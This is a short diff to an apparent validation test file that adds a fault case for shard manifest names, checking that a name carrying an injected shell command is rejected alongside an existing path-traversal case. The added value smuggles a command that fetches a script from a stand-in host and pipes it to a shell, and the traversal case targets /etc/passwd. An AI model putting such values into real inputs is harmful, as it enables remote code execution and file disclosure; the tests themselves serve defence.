@@ -199,6 +199,11 @@ MANIFEST_FAULTS = {
         lambda m: m["shards"][0].update(name="../../etc/passwd.tar"),
         r"shards\[0\]\.name",
     ),
+    # joined into a pipe: command for a remote root (docs/1_data.md): only plain file names are accepted
+    "shard_name_shell_command": (
+        lambda m: m["shards"][0].update(name="x;curl evil.sh|sh;.tar"),
+        r"shards\[0\]\.name",
+    ),
 }
 
 
